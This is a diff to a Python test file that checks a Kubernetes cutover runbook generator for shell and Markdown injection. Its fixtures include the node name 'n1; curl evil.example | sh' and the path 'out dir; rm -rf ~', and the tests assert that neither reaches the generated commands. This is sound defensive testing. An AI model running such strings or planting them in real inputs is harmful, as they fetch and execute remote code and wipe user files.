@@ -121,8 +121,12 @@ def test_plan_prints_nothing_raw(tree: Path, tmp_path: Path, fmt: str) -> None:
 @pytest.mark.parametrize("fmt", names(Kind.RUNBOOK))
 def test_cutover_runbook_prints_nothing_raw(tmp_path: Path, fmt: str) -> None:
     exported = tmp_path / "exported.yaml"
-    exported.write_text(yaml.safe_dump_all([planted_node(0), planted_node(1)])
-                        + "---\n" + planted_job())
+    # Node names no API server holds are left out (they would reach the shell lines): the
+    # planted text rides on the nodes' labels (their pool) and on the workload.
+    nodes = [planted_node(0), planted_node(1)]
+    for index, node in enumerate(nodes):
+        node["metadata"]["name"] = f"gpu-{index}"
+    exported.write_text(yaml.safe_dump_all(nodes) + "---\n" + planted_job())
     result = invoke("cutover", "--from", str(exported), "--pool-label", "pool", "-o", fmt)
     assert_run_clean(result, fmt, f"cutover -o {fmt}")
     assert "INJECTED" in result.stdout
@@ -393,20 +397,26 @@ def test_a_value_makes_no_markdown_link(tmp_path: Path, monkeypatch: pytest.Monk
 
 
 def test_runbook_commands_quote_node_names(tmp_path: Path) -> None:
-    """The runbook's commands are pasted into a shell: a node name from an exported file is
-    one quoted word, never a command of its own; Markdown shows names, never links."""
-    nodes = [planted_node(i) for i in range(2)]
+    """The runbook's commands are pasted into a shell: a node name from an exported file that
+    no API server would hold (`n1; curl evil.example | sh`, a Markdown link) never reaches
+    them, the path of --output-dir is one quoted word, and Markdown shows names, never
+    links."""
+    nodes = [planted_node(i) for i in range(3)]
     nodes[0]["metadata"]["name"] = "n1; curl evil.example | sh"
     nodes[1]["metadata"]["name"] = LINK
-    nodes[1]["metadata"]["labels"]["pool"] = LINK  # a pool: named in headings and text
+    nodes[2]["metadata"]["name"] = "gpu-0"
+    for node in nodes:
+        node["metadata"]["labels"]["pool"] = LINK  # a pool: named in headings and text
     exported = tmp_path / "exported.yaml"
     exported.write_text(yaml.safe_dump_all(nodes) + "---\n" + gpu_job("j"))
-    result = invoke("cutover", "--from", str(exported), "--pool-label", "pool", "-o", "json")
+    out = tmp_path / "out dir; rm -rf ~"
+    result = invoke("cutover", "--from", str(exported), "--pool-label", "pool", "-o", "json",
+                    "--output-dir", str(out))
     commands = "\n".join(line for wave in json.loads(result.stdout)["waves"]
                          for line in wave["steps"] + wave["rollback"])
-    assert "cordon 'n1; curl evil.example | sh'" in commands or \
-        "'n1; curl evil.example | sh'" in commands, commands
-    assert "; curl evil.example | sh " not in commands.replace("'n1; curl evil.example | sh'", "")
+    assert "kubectl cordon gpu-0" in commands
+    assert "curl evil" not in commands and "evil.example/x" not in commands
+    assert f"'{out}/wave-1'" in commands
     markdown = invoke("cutover", "--from", str(exported), "--pool-label", "pool",
                       "-o", "markdown").stdout
     outside_fences = re.sub(r"```sh\n.*?```", "", markdown, flags=re.DOTALL)
